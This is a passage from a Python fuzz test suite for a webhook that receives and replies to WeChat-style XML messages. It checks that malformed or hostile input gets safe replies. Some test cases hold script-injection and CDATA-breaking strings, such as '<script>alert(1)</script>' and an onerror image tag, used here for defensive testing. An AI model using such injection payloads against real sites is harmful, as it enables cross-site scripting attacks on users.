       create_time=st.one_of(st.just(0), st.integers(-(2**70), 2**70)), safe=st.booleans())
@example(msg_type="text", event_name="", openid="]]><script>alert(1)</script>", content="<script>alert(1)</script>",
         event_key="", create_time=0, safe=False)
@example(msg_type="text", event_name="", openid="o_ctrl", content="a\x01b\x1bc\x7f", event_key="", create_time=0, safe=False)
@example(msg_type="event", event_name="CLICK", openid="o_click", content="", event_key="<img src=x onerror=alert(1)>",
         create_time=0, safe=True)
@example(msg_type="text", event_name="", openid="o_long", content="专" * 10_000, event_key="", create_time=0, safe=True)
async def test_odd_messages_get_safe_replies(hook: Hook, msg_type: str, event_name: str, openid: str, content: str,
                                             event_key: str, create_time: int, safe: bool) -> None:
    fields: dict[str, str | int] = {"ToUserName": ACCOUNT, "FromUserName": openid,
                                    "CreateTime": create_time or int(time.time()), "MsgType": msg_type}
    kind = msg_type.strip().lower()
    if kind == "event":
        fields.update(Event=event_name, EventKey=event_key)
    elif kind == "voice":
        fields.update(Format="amr", Recognition=content, MediaId="m", MsgId=next(_msg_ids))
    elif kind == "image":
        fields.update(PicUrl="http://127.0.0.1:9/x.jpg", MediaId="m", MsgId=next(_msg_ids))
    else:
        fields.update(Content=content, MsgId=next(_msg_ids))
    doc = message_xml(fields)
    query = hook.query()
    body, params = hook.seal(doc, query) if safe else (doc.encode(), query)
    status, text = await hook.post(body, params)
    what = (msg_type, event_name, openid[:40], content[:40])
    if not xml_ok(doc) or not kind or (kind == "event" and not event_name.strip()):
        assert status == 400, (status, text, what)  # XML cannot carry it, or a required field is blank
        assert_polite(status, text, what)
        return
    if safe and status == 200 and text != "success":
        text = _open(hook, text)
    assert_reply(status, text, openid, what)


@settings(max_examples=examples(500), **FUZZ)
@given(openid=st.text(min_size=1, max_size=60), content=st.text(max_size=300), account=st.text(max_size=30))
@example(openid="]]>", content="]]]]><![CDATA[>", account="<xml>")
@example(openid="o", content="\x00\x01\x0b\x0c\x1f\ufffe\uffff", account="gh")
@example(openid="o\ud800", content="a\udfffb", account="gh")  # lone surrogates (e.g. from a JSON escape)
async def test_reply_xml_carries_any_text_as_text(openid: str, content: str, account: str) -> None:
    """The passive reply writer (no server): whatever the sender and the answer, the reply
    parses safely and gives them back, minus what XML 1.0 cannot carry at all."""
    message = TextMessage(to_user=account, from_user=openid, create_time=1, msg_type="text", msg_id="1")
    reply = text_reply(message, content, 1_700_000_000)
    root = safe_fromstring(reply.encode("utf-8"), forbid_dtd=True)
    fields = {child.tag: child.text or "" for child in root}
    keep = "".join(c for c in content if xml_ok(c))
    assert fields["Content"] == xml_normalised(keep)
    assert fields["ToUserName"] == xml_normalised("".join(c for c in openid if xml_ok(c)))
    assert fields["FromUserName"] == xml_normalised("".join(c for c in account if xml_ok(c)))
    assert render_xml({"Content": content}).count("<Content>") == 1


# -- content types -------------------------------------------------------------------------------

header_text = st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7e), max_size=60)


@settings(max_examples=examples(60), **FUZZ)
@given(content_type=st.one_of(st.none(), st.sampled_from(["text/xml; charset=utf-8", "application/json",
                                                          "multipart/form-data; boundary=x", "text/html",
                                                          "application/x-www-form-urlencoded", "TEXT/XML",
                                                          "<script>alert(1)</script>"]), header_text))
async def test_content_types(hook: Hook, content_type: str | None) -> None:
    """XML types (and what aiohttp reads as text/plain: junk without a "/") are read; the
    rest is a 415 that does not repeat the type sent."""
    body = message_xml(text_fields("o_ctype")).encode()
    status, text = await hook.post(body, hook.query(), content_type=content_type)
    assert status in (200, 400, 415), (status, text, content_type)
    if status == 200:
        assert_reply(status, text, "o_ctype", content_type)
    else:
        assert_polite(status, text, content_type)


# -- still serving -------------------------------------------------------------------------------

async def test_still_serving_after_the_fuzzing(hook: Hook) -> None:
    for safe in (False, True):
        query = hook.query()
        doc = message_xml(text_fields("o_after"))
        body, params = hook.seal(doc, query) if safe else (doc.encode(), query)
        status, text = await hook.post(body, params)
        fields = assert_reply(status, _open(hook, text) if safe else text, "o_after")
        assert fields["Content"] == replies.ASSISTANT_UNAVAILABLE
    async with hook.http.get(str(hook.server.make_url("/healthz"))) as resp:
        assert resp.status == 200
    assert not hook.tracebacks.seen, [r.getMessage() for r in hook.tracebacks.seen][:5]
